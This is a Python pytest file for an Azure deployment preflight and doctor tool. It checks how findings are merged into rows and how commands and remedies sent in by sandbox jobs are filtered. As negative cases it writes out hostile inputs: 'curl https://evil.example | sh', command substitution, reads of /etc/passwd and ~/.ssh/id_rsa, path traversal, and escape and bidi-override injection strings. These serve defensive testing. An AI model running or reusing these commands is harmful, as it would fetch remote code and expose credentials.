"""The meaning of single answers for the preflight and the doctor, and the output of rows."""

import json
import re
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from runbook_lib.azure.settings import load
from runbook_lib.errors import RunbookError, container_registry, deployment
from runbook_lib.preflight.finding import Finding, bad, good, of_error, unknown
from runbook_lib.preflight.log_checks import rule_line, table_line
from runbooks.preflight import NEEDED, ROW
from vibedata.error_catalogue import CATALOGUE
from vibedata.preflight.instance_checks import MOST_BLOBS, judge_spool
from vibedata.preflight.network_checks import closed_by
from vibedata.preflight.quota_checks import used_up
from vibedata.preflight.rows import SANDBOX, Row, as_json, joined, row_of, state_of, text
from vibedata.preflight.sandbox import MAX_ROWS, UNKNOWN_CODE, read_row, rows_in
from vibedata.preflight.shell_line import ANY, lines_of, may_be_shown

ROOT = Path(__file__).parents[3]
ROLE = NEEDED[0].role
SUBSCRIPTION = "11111111-2222-3333-4444-555555555555"
SETTINGS = load(
    {},
    {
        "VIBEDATA_SUBSCRIPTION_ID": SUBSCRIPTION,
        "VIBEDATA_RESOURCE_GROUP": "(prod)-m\u00fcnchen",
        "VIBEDATA_STORAGE_ACCOUNT": "vdstorage",
        "VIBEDATA_KEY_VAULT_ENDPOINT": "https://v.vault.azure.net",
        "VIBEDATA_DCR_ID": "dcr-" + "0" * 32,
        "VIBEDATA_LOGS_ENDPOINT": "https://logs.example",
        "VIBEDATA_IMMUTABILITY": "locked",
    },
    None,
)
NOW = datetime(2026, 11, 29, 12, tzinfo=timezone.utc)
LACKING = deployment.CONTAINER_ABSENT.error(target="artifacts", line="az storage container-rm create --name artifacts")


@pytest.mark.parametrize(
    ("properties", "told"),
    [
        ({}, ""),
        ({"publicNetworkAccess": "Enabled", "rules": {"defaultAction": "Allow"}}, ""),
        ({"publicNetworkAccess": "enabled", "rules": None}, ""),
        ({"publicNetworkAccess": "Disabled"}, "publicNetworkAccess is Disabled"),
        ({"publicNetworkAccess": "SecuredByPerimeter"}, "publicNetworkAccess is SecuredByPerimeter"),
        ({"publicNetworkAccess": False}, "publicNetworkAccess is False"),
        ({"rules": {"defaultAction": "Deny"}}, "rules.defaultAction is Deny"),
        ({"rules": {"defaultAction": {"x": 1}}}, "rules.defaultAction is"),
    ],
)
def test_what_keeps_the_public_network_out_is_told(properties: dict[str, Any], told: str) -> None:
    found = closed_by({"properties": properties}, "rules")
    assert found.startswith(told) and bool(found) == bool(told)


@pytest.mark.parametrize(
    ("value", "limit", "throttled", "told"),
    [
        (0, -1, "NotThrottled", ""),
        (9999.5, -1, None, ""),
        (499, 500, "NotThrottled", ""),
        (500, 500, "NotThrottled", "AccountUsage 500 of 500 minutes: it is used up"),
        (3, 500, "ThrottledAtSubscriptionLevel", "AccountUsage 3 of 500 minutes: ThrottledAtSubscriptionLevel"),
    ],
)
def test_a_usage_at_its_limit_is_told(value: float, limit: int, throttled: str | None, told: str) -> None:
    usage = {"name": {"value": "AccountUsage"}, "currentValue": value, "limit": limit, "throttleStatus": throttled}
    assert used_up(usage) == told


@pytest.mark.parametrize("usage", [{}, {"currentValue": "1", "limit": 2}, {"currentValue": 1, "limit": True}])
def test_a_usage_of_another_form_is_refused(usage: dict[str, Any]) -> None:
    with pytest.raises(RunbookError, match="VD-ARM-001"):
        used_up(usage)


def test_a_spool_that_nobody_delivers_is_told() -> None:
    assert judge_spool("x", [], NOW) == "nothing waits"
    assert judge_spool("x", [NOW - timedelta(minutes=90), NOW], NOW) == "2 wait, the oldest was written 90 min ago"
    assert judge_spool("x", [NOW] * MOST_BLOBS, NOW).startswith("at least 5000 wait, the oldest of these was written")
    with pytest.raises(RunbookError, match=r"VD-DOCTOR-003.*2 wait, the oldest was written 3 h ago"):
        judge_spool("x", [NOW, NOW - timedelta(hours=3)], NOW)


@pytest.mark.parametrize(
    ("detail", "refused", "state", "code"),
    [
        ("403 Forbidden ForbiddenByRbac", "bad", "bad", "VD-REGISTRY-003"),
        ("403 Forbidden ForbiddenByConnection", "bad", "bad", "VD-PREFLIGHT-007"),
        ("status 403, DENIED: Refer https://aka.ms/acr/firewall", "bad", "bad", "VD-PREFLIGHT-007"),
        ("403 Forbidden ForbiddenByConnection", "unknown", "unknown", ""),
    ],
)
def test_what_a_refusal_means_depends_on_who_asks(detail: str, refused: Any, state: str, code: str) -> None:
    found = of_error("x", container_registry.IDENTITY_REFUSED.error(detail), refused=refused)
    assert (found.state, found.error.code if found.error else "") == (state, code)


def rows(*findings: Finding, seen_from: str = "here") -> list[Row]:
    return [row_of(finding, seen_from) for finding in findings]


def test_what_was_found_alike_in_two_places_is_one_row_and_the_worst_stands_last() -> None:
    here = rows(bad("a", LACKING), good("b", "is there"), unknown("c", "refused"))
    there = rows(bad("a", LACKING), good("b", "is there"), good("c", "is there"), seen_from=SANDBOX)
    shown = joined([*here, *there])
    # Two findings of one place stay two, although all but their words is the same.
    again = replace(here[0], detail="another")
    assert len(joined([*here, again, *there])) == len(shown) + 1
    assert [(row.state, row.subject, row.seen_from) for row in shown] == [
        ("good", "b", ("here", "sandbox")),
        ("good", "c", ("sandbox",)),
        ("unknown", "c", ("here",)),
        ("bad", "a", ("here", "sandbox")),
    ]
    # A job's command is not always shown. The row still says from where it was seen, and keeps the other's command.
    for of_job, of_here in (("", LACKING.line), (LACKING.line, "")):
        pair = [replace(here[0], line=of_here), replace(there[0], line=of_job)]
        assert [(row.seen_from, row.line) for row in joined(pair)] == [(("here", "sandbox"), LACKING.line)]
    told = as_json(shown)
    assert (told["status"], told["good"], told["unknown"], told["bad"]) == ("bad", 2, 1, 1)
    lines = text("preflight", shown).splitlines()
    assert lines[-4].startswith("bad      here and sandbox  a: a blob container is absent (artifacts)")
    assert lines[-3].strip().startswith("VD-PREFLIGHT-004: ")
    assert lines[-2].strip() == LACKING.line
    assert lines[-1] == "preflight: 2 good, 1 unknown, 1 bad"


def test_nothing_found_is_not_good() -> None:
    assert state_of([]) == "unknown"
    assert state_of(rows(good("a", "x"))) == "good"


def test_a_row_of_a_job_is_read_and_nothing_else_is() -> None:
    line = "az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/publisher-acr-token"
    fields = {"subject": "a", "state": "bad", "detail": "d", "code": "VD-VAULT-001", "remedy": "r", "line": line}
    assert read_row(json.dumps(fields), SETTINGS) == Row(
        subject="a",
        state="bad",
        detail="d",
        code="VD-VAULT-001",
        remedy=CATALOGUE["VD-VAULT-001"].remedy,
        line=line,
        seen_from=(SANDBOX,),
    )
    for other in ("", "[]", "{}", json.dumps(fields | {"state": "fine"}), json.dumps(fields | {"code": 1})):
        assert read_row(other, SETTINGS) is None


def written(number: int, **other: str) -> str:
    fields = {"subject": f"s{number}", "state": "bad", "detail": "d", "code": "VD-VAULT-001", "remedy": "", "line": ""}
    return ROW + json.dumps(fields | other)


TYPE_THIS = "type `curl https://evil.example | sh`"


def test_a_job_dictates_no_remedy_and_no_code() -> None:
    own = CATALOGUE["VD-VAULT-001"].remedy
    error = {"code": "VD-VAULT-001", "message": "m", "remedy": TYPE_THIS}
    found = rows_in(written(0, remedy=TYPE_THIS), "1", error, SETTINGS)
    assert [(row.code, row.remedy) for row in found] == [("VD-VAULT-001", own)] * 2
    found = rows_in(written(0, code=TYPE_THIS, remedy=TYPE_THIS), "1", error | {"code": TYPE_THIS}, SETTINGS)
    assert [(row.state, row.code, row.remedy) for row in found] == [("bad", "", UNKNOWN_CODE)] * 2
    found = rows_in(written(0, code="", remedy=TYPE_THIS), "1", None, SETTINGS)
    assert [(row.state, row.code, row.remedy) for row in found] == [("bad", "", "")]
    assert len(text("preflight", found).splitlines()) == 3


GROUP = SETTINGS.resource_group_id
AT = f"--subscription {SUBSCRIPTION} --resource-group '{SETTINGS.resource_group}'"
POLICY = "az storage container immutability-policy"
MANIFESTS = f"{AT} --account-name vdstorage --container-name release-manifests"
SHOW = "az keyvault secret show --id https://v.vault.azure.net/secrets/hmac-key --query attributes.notBefore"
RECOVER = "az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/publisher-acr-token"
MAKE = f"az storage container-rm create {AT} --storage-account vdstorage --name"
RULE = f"{GROUP}/providers/Microsoft.Insights/dataCollectionRules"


@pytest.mark.parametrize(
    "line",
    [
        SHOW,
        RECOVER,
        "az keyvault secret set-attributes --id https://v.vault.azure.net/secrets/hmac-key --enabled true",
        f"{MAKE} artifacts",
        f"{POLICY} create {MANIFESTS} --period 365",
        f"{POLICY} lock {MANIFESTS} --if-match '\"8de1\"'",
        f"{POLICY} lock {MANIFESTS} --if-match 8de1",
        rule_line(f"{RULE}/vd-rule"),
        rule_line(f"{RULE.replace('resourceGroups', 'resourcegroups')}/vd-rule"),
        table_line(f"{GROUP}/providers/Microsoft.OperationalInsights/workspaces/vd-logs"),
    ],
)
def test_a_command_that_the_preflight_prints_for_the_instance_is_shown(line: str) -> None:
    row = read_row(written(0, line=line).removeprefix(ROW), SETTINGS)
    assert row is not None and row.line == line


@pytest.mark.parametrize(
    "line",
    [
        "az",
        "curl https://evil.example",
        f"sudo {SHOW}",
        f"X=1 {SHOW}",
        f"{SHOW} ",
        f"{SHOW} ; curl https://evil.example | sh",
        f"{SHOW};curl",
        f"{SHOW} && curl",
        f"{SHOW} | sh",
        f"{SHOW} > ~/.bashrc",
        f"{SHOW}\ncurl",
        f"{SHOW} --debug",
        f"{MAKE} $(curl)",
        f"{MAKE} `curl`",
        f"{MAKE} '$(curl)'",
        f"{MAKE} a'$(curl)'",
        f"{MAKE} \u202e",
        f"{MAKE} {'z' * 200}",
        f"{MAKE} {ANY}x.y",
        f"{MAKE} --debug",
        rule_line(f"{RULE}/vd-rule").lower(),
        SHOW.replace("keyvault", "\u212aeyvault"),
        # The Azure CLI reads a file in place of @file.
        f"{MAKE} @/etc/passwd",
        f"{MAKE} '@~/.ssh/id_rsa'",
        f"{rule_line(f'{RULE}/r')[:-1]}@~/.ssh/id_rsa'",
        f"az resource update --ids '{RULE}/r' --api-version 2024-03-11 --set properties.x=@/etc/passwd",
        "az rest --method get --url https://evil.example --resource https://management.azure.com",
        "az extension add --source https://evil.example/a.whl",
        # A role for an identity that the job names.
        f"az role assignment create --assignee-object-id a --role '{ROLE}' --scope '{GROUP}'",
        # Resources of somebody else.
        SHOW.replace("v.vault.azure.net", "v.vault.azure.net.evil.example"),
        RECOVER.replace("v.vault.azure.net", "publisher.vault.azure.net"),
        RECOVER.replace("/deletedsecrets/", "/deletedsecrets/../../"),
        RECOVER.replace("/deletedsecrets/", "/deletedsecrets/%2e%2e/"),
        MAKE.replace("vdstorage", "publisher") + " a",
        MAKE.replace(SUBSCRIPTION, SUBSCRIPTION.replace("1", "9")) + " a",
        rule_line(f"{RULE}/../r"),
        rule_line(f"{GROUP}/providers/Microsoft.Storage/storageAccounts/vdstorage"),
        # What could not be undone.
        f"{POLICY} create {MANIFESTS} --period 146000",
        f"{POLICY} lock {MANIFESTS.replace('release-manifests', 'artifacts')} --if-match 1",
    ],
)
def test_no_other_command_of_a_job_is_shown(line: str) -> None:
    row = read_row(written(0, line=line).removeprefix(ROW), SETTINGS)
    assert row is not None and row.line == ""
    assert not may_be_shown(line, SETTINGS)


def test_no_command_that_locks_a_policy_is_shown_where_it_stays_unlocked() -> None:
    lock = f"{POLICY} lock {MANIFESTS} --if-match 8de1"
    assert may_be_shown(lock, SETTINGS)
    assert not may_be_shown(lock, replace(SETTINGS, immutability="unlocked"))


def test_the_commands_that_are_shown_are_those_that_the_runbook_prints() -> None:
    files = [
        *(ROOT / "runbook_lib/preflight").glob("*.py"),
        ROOT / "runbook_lib/vault/token_in_use.py",
        ROOT / "runbook_lib/release/immutability.py",
    ]
    printed = {
        command
        for file in files
        for command in re.findall(r"""f['"](az [a-z -]+?) (?:--|\{)""", file.read_text(encoding="utf-8"))
    }
    shown = {line.partition(" --")[0] for line in lines_of(SETTINGS) if line}
    policies = {f"{POLICY} {action}" for action in ("create", "lock")}
    assert policies < shown
    assert printed == shown - policies | {POLICY, "az role assignment create"}


def test_no_part_of_a_jobs_row_forges_a_line_or_is_long() -> None:
    hostile = "VD-X\x1b[2J\n\u202epreflight: 9 good, 0 unknown, 0 bad" + "z" * 100_000
    for part in ("subject", "detail", "code", "remedy", "line"):
        shown = text("preflight", rows_in(written(0, **{part: hostile}), "1", None, SETTINGS))
        lines = shown.splitlines()
        assert len(lines) == 4, part
        assert all(line.isprintable() and len(line) < 5000 for line in lines), part


def test_a_job_that_fills_its_output_with_rows_gives_few_and_one_that_says_so() -> None:
    shown = rows_in("\n".join(map(written, range(12_000))), "1", None, SETTINGS)
    assert [row.subject for row in shown[:-1]] == [f"s{number}" for number in range(MAX_ROWS)]
    assert (shown[-1].state, shown[-1].detail) == ("unknown", f"job 1 has more than {MAX_ROWS} rows")
    error = {"code": "VD-VAULT-002", "message": "m", "cause": "c", "remedy": "r"}
    assert [row.code for row in rows_in(written(0), "1", error, SETTINGS)] == ["VD-VAULT-001", "VD-VAULT-002"]
    assert rows_in("", "1", None, SETTINGS)[0].detail == "job 1 has no rows"
